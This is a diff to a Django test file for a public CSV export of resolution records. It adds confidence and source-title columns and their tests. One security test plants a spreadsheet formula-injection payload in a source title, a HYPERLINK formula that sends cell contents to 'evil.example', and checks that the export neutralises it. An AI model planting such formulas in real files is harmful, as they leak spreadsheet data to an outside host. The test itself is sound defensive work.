@@ -9,11 +9,12 @@ import math
 import pytest
 from django.db import OperationalError, connection
 from django.http import StreamingHttpResponse
+from django.urls import reverse
 from django.utils import timezone
 from hypothesis import given
 from hypothesis import strategies as st
 
-from recognition import exports
+from recognition import citations, exports
 from recognition.models import Action, Jurisdiction, Resolution, Source
 from tests import progress_records
 from tests.conftest import PlaceFactory, ResolutionFactory, get_county, get_state
@@ -31,7 +32,9 @@ def _starter_published():
 
 
 STARTER_PUBLISHED = _starter_published()
-HEADER = [
+# The public CSV's columns as newsrooms' scripts read them, in this order: the contract. Copied from the
+# header the export wrote before issue 18 added columns; a new column is only ever appended after these.
+EXISTING_HEADER = [
     "id",
     "jurisdiction",
     "state",
@@ -58,6 +61,9 @@ HEADER = [
     "last_verified_on",
     "url",
 ]
+# Issue 18's columns, appended (the permanent link and last_verified_on were there already: `url`, and
+# `last_verified_on`).
+HEADER = [*EXISTING_HEADER, "confidence", "source_title"]
 
 
 def download(client, params=None):
@@ -145,6 +151,27 @@ class TestColumns:
         header, _rows = read_csv(body)
         assert header == HEADER == exports.HEADER
 
+    @pytest.mark.parametrize("params", [{}, {"state": ["WY"]}], ids=["rows", "no rows"])
+    def test_existing_columns_keep_their_names_and_order(self, client, starter_dataset, params):
+        """Append only: every existing column keeps its name and its place, whatever is added after them."""
+        _response, body = download(client, params)
+        header, _rows = read_csv(body)
+        assert header[: len(EXISTING_HEADER)] == EXISTING_HEADER
+
+    def test_confidence_and_source_title_are_the_starter_files(self, client, starter_dataset):
+        """Each record's confidence and primary source's title, as the cited starter file gives them."""
+        with open(STARTER_CSV, encoding="utf-8-sig") as handle:
+            source = {
+                (row["jurisdiction"], row["identifier"], row["title"]): row for row in csv.DictReader(handle)
+            }
+        rows = csv_rows(client)
+        assert len(rows) == STARTER_PUBLISHED
+        for row in rows:
+            original = source[(row["jurisdiction"], row["identifier"], row["title"])]
+            assert row["confidence"] == original["confidence"] != "low"
+            assert row["source_title"] == original["source_title"].strip(), row["title"]
+        assert {row["confidence"] for row in rows} == {"high", "medium"}
+
     def test_partial_dates_keep_their_precision(self, client, starter_dataset):
         """Every exported date is exactly what the cited starter file says, at its precision."""
         with open(STARTER_CSV, encoding="utf-8") as handle:
@@ -207,6 +234,41 @@ class TestColumns:
             law.body,
         )
         assert row["summary"] == law.summary
+        assert row["confidence"] == law.confidence
+        # The source it was imported with: its first with a link, not a later one.
+        assert (
+            row["source_title"] == law.sources.exclude(url="").order_by("pk").first().title != "Second source"
+        )
+
+    def test_source_title_is_the_first_linked_source_s_the_one_its_citation_names(self, client, db):
+        untitled = ResolutionFactory(sources=[])
+        Source.objects.create(resolution=untitled, url="https://example.org/untitled")
+        Source.objects.create(resolution=untitled, url="https://example.org/titled", title="A later title")
+        unlinked_first = ResolutionFactory(sources=[])
+        Source.objects.create(resolution=unlinked_first, title="Minutes on paper")
+        Source.objects.create(resolution=unlinked_first, url="https://example.org/linked", title="Linked")
+        only_unlinked = ResolutionFactory(sources=[])  # published by hand here: the admin would want a link
+        Source.objects.create(resolution=only_unlinked, title="Minutes on paper")
+        none = ResolutionFactory(sources=[])
+        rows = {int(row["id"]): row for row in csv_rows(client)}
+        assert rows[untitled.pk]["source_title"] == ""
+        assert rows[untitled.pk]["source_urls"] == "https://example.org/untitled | https://example.org/titled"
+        assert rows[unlinked_first.pk]["source_title"] == "Linked"
+        assert rows[unlinked_first.pk]["source_urls"] == "https://example.org/linked"
+        assert rows[none.pk]["source_title"] == rows[none.pk]["source_urls"] == ""
+        assert rows[only_unlinked.pk]["source_title"] == "Minutes on paper"
+        for resolution in (untitled, unlinked_first, only_unlinked, none):
+            source = citations.primary_source(resolution)
+            assert rows[resolution.pk]["source_title"] == (source.title if source else "")
+
+    def test_the_admin_export_adds_published_after_the_public_columns(self, editor_client, db):
+        draft = ResolutionFactory(published=False, confidence="low")
+        response = editor_client.get(reverse("admin:recognition_resolution_export"))
+        header, rows = read_csv(b"".join(response.streaming_content))
+        assert header == [*HEADER, "published"]
+        assert [(row["id"], row["confidence"], row["published"]) for row in rows] == [
+            (str(draft.pk), "low", "no")
+        ]
 
 
 @pytest.mark.django_db
@@ -230,6 +292,13 @@ class TestSafety:
         assert row["id"] == str(resolution.pk)
         for column in ("title", "summary", "identifier", "body"):
             assert row[column] == "'" + dangerous
+
+    def test_a_formula_in_a_source_title_is_neutralised(self, client):
+        dangerous = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+        resolution = ResolutionFactory(sources=[])
+        Source.objects.create(resolution=resolution, url="https://example.org/a", title=dangerous)
+        (row,) = csv_rows(client)
+        assert row["source_title"] == "'" + dangerous
 
     def test_dona_ana_round_trips_as_utf8(self, client):
         dona_ana = get_county("35013")
